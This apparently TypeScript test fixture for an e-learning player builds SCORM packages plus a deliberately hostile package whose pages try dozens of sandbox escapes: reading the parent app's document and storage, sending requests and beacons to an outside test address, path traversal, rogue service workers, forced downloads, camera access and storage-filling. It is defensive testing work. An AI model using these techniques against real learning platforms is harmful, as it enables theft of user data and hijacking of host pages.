import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** Writes a SCORM package as a folder; `items` name pages of `files` in order. */
export function writeScorm(
  folder: string,
  options: {
    readonly version: '1.2' | '2004 4th Edition';
    readonly title: string;
    readonly items: readonly { readonly href: string; readonly title: string }[];
    readonly files: Readonly<Record<string, string>>;
  },
): string {
  const items = options.items.map(
    ({ title }, index) => `<item identifier="i${index}" identifierref="r${index}"><title>${title}</title></item>`,
  );
  const resources = options.items.map(
    ({ href }, index) => `<resource identifier="r${index}" type="webcontent" adlcp:scormtype="sco" href="${href}"/>`,
  );
  const manifest = `<?xml version="1.0"?>
<manifest identifier="m" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
<metadata><schema>ADL SCORM</schema><schemaversion>${options.version}</schemaversion></metadata>
<organizations default="o"><organization identifier="o"><title>${options.title}</title>${items.join('')}</organization></organizations>
<resources>${resources.join('')}</resources></manifest>`;
  mkdirSync(folder, { recursive: true });
  for (const [name, text] of Object.entries({ 'imsmanifest.xml': manifest, ...options.files }))
    writeFileSync(join(folder, name), text);
  return folder;
}

/** A page that reports to SCORM 1.2 or 2004, synchronously through its parent, with handlers in the page. */
export function scormPage(version: '1.2' | '2004'): string {
  const names =
    version === '1.2'
      ? {
          api: 'API',
          start: 'LMSInitialize',
          get: 'LMSGetValue',
          set: 'LMSSetValue',
          end: 'LMSFinish',
          commit: 'LMSCommit',
        }
      : {
          api: 'API_1484_11',
          start: 'Initialize',
          get: 'GetValue',
          set: 'SetValue',
          end: 'Terminate',
          commit: 'Commit',
        };
  const done =
    version === '1.2'
      ? [
          ['cmi.core.lesson_status', 'passed'],
          ['cmi.core.score.max', '100'],
          ['cmi.core.score.raw', '80'],
        ]
      : [
          ['cmi.completion_status', 'completed'],
          ['cmi.success_status', 'failed'],
          ['cmi.score.scaled', '0.25'],
        ];
  const begun = version === '1.2' ? ['cmi.core.lesson_status', 'incomplete'] : ['cmi.completion_status', 'incomplete'];
  const exit = version === '1.2' ? 'cmi.core.exit' : 'cmi.exit';
  return `<!doctype html><html lang="en"><head><title>Lesson</title></head><body onload="begin()">
<main><h1>Lesson</h1><p id="left">?</p>
<button onclick="leave()">Leave off</button> <button onclick="finish()">Finish</button></main>
<script>
const api = parent.${names.api};
function begin() {
  api.${names.start}('');
  document.getElementById('left').textContent = 'Left: ' + (api.${names.get}('cmi.suspend_data') || 'nothing');
}
function leave() {
  api.${names.set}('${begun[0]}', '${begun[1]}');
  api.${names.set}('cmi.suspend_data', 'page 7');
  api.${names.set}('${exit}', 'suspend');
  document.getElementById('left').textContent = 'Saved: ' + api.${names.commit}('');
}
function finish() {
  for (const [name, value] of ${JSON.stringify(done)}) api.${names.set}(name, value);
  document.getElementById('left').textContent = 'Ended: ' + api.${names.end}('');
}
</script></body></html>`;
}

/** Where the hostile package tries to go. */
export interface Elsewhere {
  readonly appUrl: string;
  /** An HTTP address that answers. */
  readonly awayUrl: string;
  readonly udpPort: number;
}

/**
 * A package that tries everything the sandbox must stop. `index.html` lists how each try ended; the other pages each do
 * one thing that ends the page itself.
 */
export function hostileFiles({ appUrl, awayUrl, udpPort }: Elsewhere): Record<string, string> {
  const page = (script: string): string =>
    `<!doctype html><html lang="en"><head><title>x</title></head><body><pre id="report">running</pre><script>
const app = ${JSON.stringify(appUrl)}, away = ${JSON.stringify(awayUrl)}, udp = ${udpPort};
${script}
</script></body></html>`;
  const tries = `
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const soon = (work, ms = 1500) => Promise.race([work, wait(ms).then(() => { throw new Error('nothing came'); })]);
const event = (target, make) => soon(new Promise((done, fail) => { target.onload = () => done('loaded'); target.onerror = () => fail(new Error('error')); make(target); }));
const added = (name, values) => event(document.createElement(name), (element) => { Object.assign(element, values); document.body.append(element); });
const channel = (container) => {
  const session = [...crypto.getRandomValues(new Uint8Array(16))].map((byte) => byte.toString(16).padStart(2, '0')).join('');
  const answered = new Promise((done) => container.addEventListener('message', ({ data }) => data.session === session && done('opened')));
  container.startMessages();
  container.controller.postMessage({ kind: 'open', session, runtime: 'h5p' }, [new MessageChannel().port2]);
  return soon(answered, 1000);
};
const tries = {
  'app document': () => top.document.body.innerHTML,
  'app storage': () => top.localStorage.length,
  'app database through its window': () => top.indexedDB,
  'app address': () => top.location.href,
  'frame element': () => { if (parent.frameElement === null) throw new Error('null'); return 'got'; },
  'own storage holds of the app': async () => {
    const names = [...Object.keys(localStorage), ...(await indexedDB.databases()).map((one) => one.name), ...(await caches.keys()), ...document.cookie.split(';')].filter(Boolean);
    if (names.length === 0) throw new Error('nothing');
    return names.join();
  },
  'fetch': () => soon(fetch(away + '/fetch', { mode: 'no-cors' })),
  'fetch of the app': () => soon(fetch(app + '/index.html', { mode: 'no-cors' })),
  'fetch from the player': () => soon(parent.fetch(away + '/parent-fetch', { mode: 'no-cors' })),
  'synchronous request': () => { const x = new XMLHttpRequest(); x.open('GET', away + '/xhr', false); x.send(); return x.status; },
  'beacon': async () => { navigator.sendBeacon(away + '/beacon', 'x'); await wait(300); throw new Error('only the wire knows'); },
  'web socket': () => event(Object.assign(new WebSocket(away.replace('http', 'ws') + '/socket')), (s) => { s.onopen = s.onload; }),
  'event source': () => event(new EventSource(away + '/events'), (s) => { s.onopen = s.onload; }),
  'picture': () => event(new Image(), (i) => { i.src = away + '/picture.png'; }),
  'script': () => added('script', { src: away + '/script.js' }),
  'style': () => added('link', { rel: 'stylesheet', href: away + '/style.css' }),
  'prefetch': () => added('link', { rel: 'prefetch', href: away + '/prefetch' }),
  'preconnect': async () => { added('link', { rel: 'preconnect', href: away }).catch(() => 0); await wait(500); throw new Error('only the wire knows'); },
  'worker elsewhere': () => { new Worker(away + '/worker.js'); throw new Error('only the wire knows'); },
  'dynamic import': () => soon(import(away + '/module.js')),
  'form': async () => { const f = document.createElement('form'); f.action = away + '/form'; f.target = '_self'; document.body.append(f); f.submit(); await wait(300); throw new Error('still here'); },
  'frame elsewhere': async () => { const f = document.createElement('iframe'); f.src = away + '/frame'; document.body.append(f); await wait(500); try { f.contentWindow.document; } catch { throw new Error('an error page'); } throw new Error('empty'); },
  'window': () => { const w = open(away + '/window'); if (w === null) throw new Error('null'); return 'open'; },
  'link to a new window': async () => { const a = document.createElement('a'); a.href = away + '/blank'; a.target = '_blank'; document.body.append(a); a.click(); await wait(300); throw new Error('only the browser knows'); },
  'top navigation': async () => { top.location = away + '/top'; await wait(300); throw new Error('still here'); },
  'top navigation by link': async () => { const a = document.createElement('a'); a.href = away + '/top-link'; a.target = '_top'; document.body.append(a); a.click(); await wait(300); throw new Error('still here'); },
  'download': async () => { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'x.exe'; a.click(); await wait(300); throw new Error('only the browser knows'); },
  'dialog': () => { alert('x'); if (!confirm('x')) throw new Error('no'); return 'asked'; },
  'own service worker': () => navigator.serviceWorker.register('evil-worker.js', { scope: './' }),
  'service worker of the player': () => parent.navigator.serviceWorker.register('/player.js', { scope: '/' }),
  'service worker from a file of the module': () => parent.navigator.serviceWorker.register(location.pathname.replace('index.html', 'evil-worker.js'), { scope: '/' }),
  'service worker of the app': () => navigator.serviceWorker.register(app + '/service-worker.js'),
  'second channel to the worker': () => channel(navigator.serviceWorker),
  'second channel through the player': () => channel(parent.navigator.serviceWorker),
  'another module': async () => { const r = await fetch('../../m/x'); if (!r.ok) throw new Error(r.status); return 'got'; },
  'a path outside the module': async () => { const r = await fetch('%2e%2e%2fsecret'); if (!r.ok) throw new Error(r.status); return 'got'; },
  'camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
};
(async () => {
  const report = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try { report[name] = 'DONE: ' + String(await attempt()).slice(0, 60); } catch (error) { report[name] = 'refused'; }
    document.getElementById('report').textContent = 'running ' + name;
  }
  document.getElementById('report').textContent = JSON.stringify(report);
})();`;
  return {
    'index.html': page(tries),
    'evil-worker.js': 'self.addEventListener("fetch", () => {});',
    'fill.html': page(`(async () => {
  const cache = await caches.open('fill');
  for (let n = 0; n < 2000; n++) {
    await cache.put('/c/' + n, new Response(crypto.getRandomValues(new Uint8Array(65536)).buffer.slice(0) && new Blob(Array(16).fill(crypto.getRandomValues(new Uint8Array(65536))))));
    document.getElementById('report').textContent = n + ' MiB';
  }
})();`),
    'webrtc.html': page(`const peers = async (Peer) => {
  const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp }, { urls: 'turn:127.0.0.1:' + new URL(away).port + '?transport=tcp', username: 'x', credential: 'x' }] });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
};
peers(RTCPeerConnection);
peers(parent.RTCPeerConnection);`),
    'leave.html': page(`location.href = away + '/self';`),
    'lead-away.html': page(`parent.location.href = away + '/parent';`),
  };
}
